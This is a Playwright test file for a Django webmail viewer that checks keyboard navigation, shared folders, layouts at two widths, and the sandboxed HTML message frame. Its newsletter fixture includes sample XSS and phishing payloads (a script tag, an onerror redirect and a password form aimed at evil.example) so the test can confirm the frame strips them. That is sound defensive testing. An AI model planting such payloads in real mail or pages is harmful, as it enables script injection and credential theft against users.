"""The viewer in a real browser: keyboard, actions, the sandboxed frame, and pictures of the pages at both widths.

Pages are kept in tests/artifacts/webmail/ for people to look at.
"""

import os
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright
from pytest_django.live_server_helper import LiveServer

from mailadmin.database import raw_connection
from mailcore.index.records import ANSWERED, FLAGGED, SEEN
from mailcore.mailbox.account import create_mailbox
from tests.admin.webmail_support import (
    PASSWORD,
    Reader,
    a_message,
    a_message_with_file,
    a_reader,
    an_html_message,
    share,
)

# Two cores may be shared with much else: a slow answer is not a wrong one.
expect.set_options(timeout=20_000)

ARTIFACTS = Path(__file__).resolve().parent.parent / "artifacts" / "webmail"
QUIET = [
    "--no-sandbox", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
]  # fmt: skip
DESKTOP = {"width": 1280, "height": 800}
PHONE = {"width": 390, "height": 844}

DEEP = ("INBOX/Team", "INBOX/Team/2026", "INBOX/Team/2026/Minutes")

NEWSLETTER = """
<div style="background:#f4f6f8;padding:24px">
<table width="600" align="center" style="background:#fff;border:1px solid #ddd">
<tr><td style="padding:24px"><h1 style="color:#1f6c98">Winter sale</h1><p>Dear Alice, <b>everything</b> must go.</p>
<img src="cid:pic@x" width="120" height="60" alt="logo"><img src="http://tracker.example/1.gif" width="1" height="1">
<p><a href="https://shop.example/offers">See the offers</a></p>
<script>document.title="pwned"</script><img src=x onerror="top.location='http://evil.example'">
<form action="http://evil.example"><input name=p type=password></form></td></tr></table></div>
"""
TRAVELLED = """\
Return-Path: <ann@far.example>
Received: from mx.far.example (mx.far.example [192.0.2.10])
\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits))
\tby mx.linuxadmin.dev (Mailkeep) with ESMTPS id 3QXK5ZTV2N8M
\tfor <alice@linuxadmin.dev>; Sun, 22 Nov 2026 10:02:11 +0000
Received: from relay.far.example (relay.far.example [198.51.100.4])
\tby mx.far.example (Postfix) with ESMTP id 4B2F81C0A1; Sun, 22 Nov 2026 10:02:09 +0000
Received: from laptop (dsl-17.provider.example [203.0.113.17])
\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)) (Authenticated sender: ann)
\tby relay.far.example (Postfix) with ESMTPSA id 9D01C22; Sun, 22 Nov 2026 10:00:02 +0000
"""
PLAIN = """\
Hello Alice,

the plan for Thursday is at https://plans.example/2026/thursday?room=4 - please look at it before noon.
Two things are open:

  * who brings the projector
  * whether we meet at nine or at ten

> On Friday you wrote:
> Could we move it to Thursday?
>> That would suit everybody.
>
> Alice

Ann
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    # Django is used beside Playwright's event loop, in the same thread, but never from within it.
    os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = "true"
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=QUIET)
        yield chromium
        chromium.close()
    os.environ.pop("DJANGO_ALLOW_ASYNC_UNSAFE")


@pytest.fixture
def server(django_database: str, settings, mail_home: Path, redis_url: str) -> Iterator[LiveServer]:
    settings.MAIL_HOME, settings.REDIS_URL = mail_home, redis_url
    running = LiveServer("127.0.0.1")
    yield running
    running.stop()


@pytest.fixture
def alice(server: LiveServer, mail_home: Path) -> Reader:
    reader = a_reader("alice@linuxadmin.dev", mail_home, display_name="Alice Liddell")
    reader.account.set_password(PASSWORD)
    reader.account.save()
    for name in ("Archive/2025", *DEEP, "Receipts"):
        create_mailbox(raw_connection(), reader.storage, reader.ref, name)
    now = datetime.now(UTC)
    for number in range(60):
        sent = format_datetime(now - timedelta(days=60 - number, minutes=number))
        people = ["Ann Example <ann@far.example>", "billing@provider.example", "Carol Čapková <carol@far.example>"]
        subject = ["Minutes of the meeting", "Your invoice 2026-1" + str(number), "Re: the garden fence"][number % 3]
        bits = SEEN | (FLAGGED if number % 11 == 0 else 0) | (ANSWERED if number % 7 == 0 else 0)
        reader.receive(a_message(subject, From=people[number % 3], Date=sent), bits=bits)
    reader.receive(a_message_with_file('"report.pdf"').replace("Subject: File", "Subject: The report you asked for"))
    reader.receive(a_message("A subject that is so long that it cannot possibly fit into one line of any list on any "
                             "screen, not even on a wide one, and says nothing " * 2))  # fmt: skip
    reader.receive(an_html_message(NEWSLETTER))
    reader.receive(TRAVELLED + a_message("Thursday", PLAIN, Date=format_datetime(now), Cc="Bob <bob@linuxadmin.dev>"))
    return reader


def sign_in(browser: Browser, server: LiveServer, viewport: dict[str, int]) -> tuple[BrowserContext, Page]:
    context = browser.new_context(viewport=viewport)
    page = context.new_page()
    page.complaints = []  # type: ignore[attr-defined]
    page.on("console", lambda said: page.complaints.append(said.text) if said.type == "error" else None)  # type: ignore[attr-defined]
    page.goto(f"{server.url}/mail/")
    page.fill("#username", "alice@linuxadmin.dev")
    page.fill("#password", PASSWORD)
    page.click("button[type=submit]")
    ready(page)
    return context, page


def ready(page: Page) -> None:
    """The page is there and its script has started."""
    expect(page.locator("html[data-ready]")).to_be_attached()


def picture(page: Page, name: str) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"))


def where_folders_begin(page: Page) -> list[float]:
    """How far from the left the Inbox and those below it are."""
    icons = page.locator("#folders li .icon")
    return [icons.nth(line).bounding_box()["x"] for line in range(1 + len(DEEP))]


def does_not_scroll_sideways(page: Page) -> None:
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")


def test_at_night(browser: Browser, server: LiveServer, alice: Reader):
    context, page = sign_in(browser, server, DESKTOP)
    page.emulate_media(color_scheme="dark")
    for name, url in {"inbox": alice.list_url(), "message": alice.url(alice.uids()[-1])}.items():
        page.goto(server.url + url)
        picture(page, f"{name}-dark")
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(15, 22, 28)"
    context.close()


@pytest.mark.parametrize(("width", "viewport"), [("desktop", DESKTOP), ("phone", PHONE)])
def test_every_page_looks_right(browser: Browser, server: LiveServer, alice: Reader, width, viewport):
    context = browser.new_context(viewport=viewport)
    page = context.new_page()
    page.goto(f"{server.url}/mail/")
    picture(page, f"sign-in-{width}")
    context.close()
    context, page = sign_in(browser, server, viewport)
    newest, html, long, file = alice.uids()[::-1][:4]
    for name, url in {
        "inbox": alice.list_url(),
        "message": alice.url(newest),
        "journey": alice.url(newest, "journey/"),
        "headers": alice.url(newest, "headers/"),
        "source": alice.url(newest, "source/"),
        "html": alice.url(html),
        "long-subject": alice.url(long),
        "attachment": alice.url(file),
        "empty": alice.list_url("Archive"),
        "unread": alice.list_url() + "?show=unread",
        "not-found": "/mail/folder/999999/",
        "compose": f"/mail/compose/?mailbox={alice.mailbox().pk}&uid={newest}&mode=all",
    }.items():
        page.goto(server.url + url)
        page.wait_for_load_state("networkidle")
        picture(page, f"{name}-{width}")
        does_not_scroll_sideways(page)
    if width == "phone":
        page.goto(server.url + alice.list_url())
        page.click("#menu-button")
        expect(page.locator("#folders")).to_be_visible()
        picture(page, f"folders-{width}")
    else:
        page.goto(server.url + alice.list_url())
        page.keyboard.press("?")
        expect(page.locator("#shortcuts")).to_be_visible()
        picture(page, f"shortcuts-{width}")
    margins = where_folders_begin(page)
    assert margins == sorted(set(margins)), "each level is further to the right"
    assert [said for said in page.complaints if "Content Security Policy" in said] == []
    context.close()


@pytest.fixture
def colleague(server: LiveServer, mail_home: Path) -> Reader:
    """Alice, with next to nothing of her own."""
    reader = a_reader("alice@linuxadmin.dev", mail_home)
    reader.account.set_password(PASSWORD)
    reader.account.save()
    create_mailbox(raw_connection(), reader.storage, reader.ref, "Receipts")
    return reader


@pytest.fixture
def bob(colleague: Reader, mail_home: Path) -> Reader:
    """Shares folders with alice: to read, and one to work in; carol shares her inbox."""
    reader = a_reader("bob@linuxadmin.dev", mail_home)
    carol = a_reader("carol.longname.of.the.accounting.department@linuxadmin.dev", mail_home)
    for name in ("Minutes", "Team", "Team/A folder with quite a long name"):
        create_mailbox(raw_connection(), reader.storage, reader.ref, name)
    for number in range(6):
        bits = (SEEN if number % 3 else 0) | (FLAGGED if number == 4 else 0)
        for name in ("Minutes", "Team"):
            reader.receive(a_message(f"Minutes of week {number}"), name, bits)
    share(reader, "lr", name="Minutes")
    share(reader, "lrswite", name="Team")
    share(reader, "lr", name="Team/A folder with quite a long name")
    share(carol, "lrs", name="INBOX")
    return reader


def test_folders_of_others_look_right_and_offer_what_is_allowed(
    browser: Browser, server: LiveServer, bob: Reader, colleague: Reader
):
    for width, viewport in (("phone", PHONE), ("desktop", DESKTOP)):
        context, page = sign_in(browser, server, viewport)
        pages = {"read-only": bob.list_url("Minutes"), "writable": bob.list_url("Team")}
        pages |= {"message": bob.url(1, name="Minutes")}
        for name, url in pages.items():
            page.goto(server.url + url)
            picture(page, f"shared-{name}-{width}")
            does_not_scroll_sideways(page)
        if width == "phone":
            ready(page)
            page.click("#menu-button")
            picture(page, f"shared-folders-{width}")
        shared = page.locator("#folders .shared .name")
        expect(shared).to_have_text(["Minutes", "Team", re.compile("long name"), "Inbox"])
        if width == "phone":
            context.close()

    page.goto(server.url + bob.list_url("Minutes"))
    ready(page)
    page.keyboard.press("j")
    page.keyboard.press("#")
    page.keyboard.press("s")
    page.locator(".row.at input").check()
    page.select_option("select[name=target]", label="Receipts")
    expect(page.locator(".notice")).to_have_text("1 message copied to Receipts.")
    assert colleague.uids("Receipts") == [1] and bob.uids("Minutes") == list(range(1, 7))
    share(bob, "l", name="Minutes")
    page.reload()
    expect(page.locator("main, body").first).to_contain_text("does not allow you to do that")
    picture(page, "shared-refused-desktop")
    context.close()


def test_the_keyboard_reaches_everything(browser: Browser, server: LiveServer, alice: Reader):
    context, page = sign_in(browser, server, DESKTOP)
    first, second = alice.uids()[::-1][:2]

    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("k")
    expect(page.locator(f'.row.at[data-uid="{first}"]')).to_be_visible()
    page.keyboard.press("Enter")
    expect(page.locator("h1")).to_have_text("Thursday")
    ready(page)
    page.keyboard.press("j")
    expect(page.locator("h1")).to_have_text("Offers")
    ready(page)
    page.keyboard.press("u")
    expect(page.locator(f'.row.at[data-uid="{second}"]')).to_be_visible()
    assert alice.flags(first) == alice.flags(second) == SEEN

    page.keyboard.press("k")
    page.keyboard.press("s")
    expect(page.locator(f'.row.flagged[data-uid="{first}"]')).to_be_visible()
    page.keyboard.press("e")
    expect(page.locator(".undo")).to_contain_text("moved to Archive")
    expect(page.locator(f'.row.at[data-uid="{second}"]')).to_be_visible()
    expect(page.locator(".position").first).to_contain_text("1–50 of 63")
    page.click("text=Undo")
    expect(page.locator(".position").first).to_contain_text("1–50 of 64")
    assert len(alice.uids()) == 64

    page.keyboard.press("n")
    expect(page.locator(".position").first).to_contain_text("51–64 of 64")
    ready(page)
    page.keyboard.press("p")
    expect(page.locator(".position").first).to_contain_text("1–50 of 64")
    context.close()


def test_the_frame_runs_nothing_and_loads_nothing_from_elsewhere(browser: Browser, server: LiveServer, alice: Reader):
    context, page = sign_in(browser, server, DESKTOP)
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    uid = alice.uids()[-2]
    page.goto(server.url + alice.url(uid))
    page.wait_for_load_state("networkidle")
    frame = page.frame_locator("iframe.html-frame")

    expect(frame.locator("h1")).to_have_text("Winter sale")
    logo = frame.locator('img[alt="logo"]')
    assert logo.evaluate("image => image.complete && image.naturalWidth") == 1, "the message's own picture is shown"
    assert page.title().startswith("Offers")
    assert frame.locator("form, script, input").count() == 0
    assert all(url.startswith((server.url, "data:")) for url in asked), asked

    page.route("http://tracker.example/**", lambda route: route.abort())
    page.click("text=Load them")
    page.wait_for_load_state("networkidle")
    assert any("tracker.example" in url for url in asked)
    context.close()


def test_an_attachment_is_downloaded(browser: Browser, server: LiveServer, alice: Reader):
    context, page = sign_in(browser, server, PHONE)
    page.goto(server.url + alice.url(alice.uids()[-4]))
    with page.expect_download() as download:
        page.click(".attachments a")

    assert download.value.suggested_filename == "report.pdf"
    assert Path(download.value.path()).read_bytes() == b"Hello"
    context.close()


def test_new_mail_appears_by_itself(browser: Browser, server: LiveServer, alice: Reader):
    context, page = sign_in(browser, server, DESKTOP)
    alice.receive(a_message("Just in"))

    page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    expect(page.locator(".row .subject").first).to_have_text("Just in")
    context.close()


def test_the_api_s_page_works_without_another_host(browser: Browser, server: LiveServer):
    context = browser.new_context(viewport=DESKTOP)
    page = context.new_page()
    complaints: list[str] = []
    page.on("console", lambda said: complaints.append(said.text) if said.type == "error" else None)
    page.goto(f"{server.url}/api/v1/docs/")
    expect(page.locator("#swagger-ui .opblock-tag").first).to_be_visible()
    picture(page, "api-desktop")

    assert complaints == []
    context.close()
